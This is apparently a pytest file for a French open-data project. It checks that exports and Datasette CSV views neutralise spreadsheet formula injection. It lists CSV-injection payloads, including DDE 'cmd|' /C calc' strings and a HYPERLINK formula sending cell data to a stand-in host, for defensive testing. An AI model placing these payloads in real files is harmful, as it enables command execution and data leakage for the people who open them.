"""Exports safe to open (issue 16 §4): no cell that a spreadsheet would run as a formula, in any export file
nor in any CSV view of Datasette, after a build from sources full of =HYPERLINK(...), =cmd|..., +..., @SUM(...)."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest

from lieux import formulas, site
from lieux.export import export
from tests.conftest import run_build

FORMULES = Path(__file__).parent / "data" / "formules.csv"
PAYLOADS = ['=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def dangerous(cell: str) -> bool:
    """What a spreadsheet would run: the OWASP rule, written here independently of lieux.formulas."""
    if not cell:
        return False
    if cell[0] in "\t\r":
        return True
    stripped = cell.lstrip(" \u00a0")
    if stripped[:1] not in ("=", "+", "-", "@", "＝", "＋", "－", "＠"):
        return False
    try:
        float(stripped.replace(",", "."))
        return False  # a number (+33123456789, -0.39): data, not a formula
    except ValueError:
        return True


def conseillers_json(path: Path) -> Path:
    """A conseillers-numeriques list (two outputs: lieux and structures_conseillers) with formulas in its texts."""
    records = []
    for i, p in enumerate(PAYLOADS, start=1):
        records.append({"id": i, "siret": "", "raison_sociale": f"{p} (raison sociale)", "type": "publique", "nb_cnfs": 1,
                        "date_de_validation_en_comité_de_sélection": "2021-04-28", "adresse": f"{p}\n18000 Bourges",
                        "code_postal": 18000, "insee_com": "18033", "commune_insee": f"{p} (commune)",
                        "code_département": "18", "département": p, "région": p, "latitude": 47.08, "longitude": 2.39,
                        "france_services": "non", "result_label": p})
    path.write_text(json.dumps(records, ensure_ascii=False), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formules")
    db = folder / "lieux.db"
    run_build(db, "--input", f"mediation-numerique={FORMULES}",
              "--input", f"conseillers-numeriques={conseillers_json(folder / 'cnfs.json')}")
    return db


def test_the_rule():
    for p in PAYLOADS + ["\t=1+1", "\r=1", " =1+1", "＝1+1", "- Accès libre"]:
        assert formulas.is_formula(p) and not formulas.is_formula(formulas.neutralise(p)), p
        assert formulas.neutralise(p) == "'" + p
    for data in ["+33248000000", "-0.39", "-1,5", "1e-3", "Médiathèque", "", "rue de l'@robase", "a=b"]:
        assert not formulas.is_formula(data) and formulas.neutralise(data) == data
    assert formulas.neutralise(["Gratuit", "=1+1"]) == ["Gratuit", "'=1+1"]


def test_every_text_of_every_table_is_safe(formula_db):
    with sqlite3.connect(formula_db) as conn:
        tables = [r[0] for r in conn.execute("select name from sqlite_master where type = 'table' and name not like '%fts%'")]
        checked = 0
        for table in tables:
            for row in conn.execute(f"select * from [{table}]"):
                for value in row:
                    if isinstance(value, str):
                        assert not dangerous(value), (table, value)
                        checked += 1
        assert checked > 500
        # the lieux were loaded, not rejected: the formulas are neutralised, with a correction each
        names = [r[0] for r in conn.execute("select nom from membres where cle like 'mediation-numerique-formule-%'")]
        assert "'=cmd|' /C calc'!A0 (nom)" in names
        assert len(names) == 8
        [(phone, lon)] = conn.execute("select telephone, longitude from membres where cle = 'mediation-numerique-formule-nombres'")
        assert (phone, lon) == ("+33248000000", -0.39)
        motifs = [r[0] for r in conn.execute("select motif from corrections where champ = 'nom' and source = 'mediation-numerique'")]
        assert len([m for m in motifs if m.startswith("formule de tableur neutralisée")]) == 7
        [(structures,)] = conn.execute("select count(*) from structures_conseillers where raison_sociale like '''%'")
        assert structures == len(PAYLOADS)


def test_every_export_file_is_safe(formula_db, tmp_path):
    out = tmp_path / "export"
    result = export(formula_db, out)
    csv_files = sorted(out.glob("*.csv"))
    assert {p.name for p in csv_files} >= {"lieux-de-mediation-numerique.csv", "structures-conseillers-numeriques.csv"}
    cells, neutralised = 0, 0
    for path in csv_files:
        with path.open(encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not dangerous(cell), (path.name, cell)
                    cells += 1
                    neutralised += cell.startswith(("'=", "'+", "'-", "'@"))
    geojson = json.loads((out / "lieux-de-mediation-numerique.geojson").read_text(encoding="utf-8"))
    for feature in geojson["features"]:
        for key, value in feature["properties"].items():
            for item in value if isinstance(value, list) else [value]:
                assert not (isinstance(item, str) and dangerous(item)), (key, item)
    assert cells > 300 and neutralised > 30 and result.files


@pytest.mark.asyncio
async def test_every_datasette_csv_view_is_safe(formula_db):
    ds = site.make_datasette(formula_db)
    with sqlite3.connect(formula_db) as conn:
        tables = [r[0] for r in conn.execute("select name from sqlite_master where type = 'table' "
                                             "and name not like '%fts%' and name not like '%rtree%'")]
    seen = 0
    for table in tables:
        response = await ds.client.get(f"/lieux/{table}.csv?_stream=on&_size=max")
        if response.status_code == 403:  # a table the public instance does not show
            continue
        assert response.status_code == 200, (table, response.status_code)
        for row in csv.reader(io.StringIO(response.text)):
            for cell in row:
                assert not dangerous(cell), (table, cell)
                seen += 1
    assert seen > 500
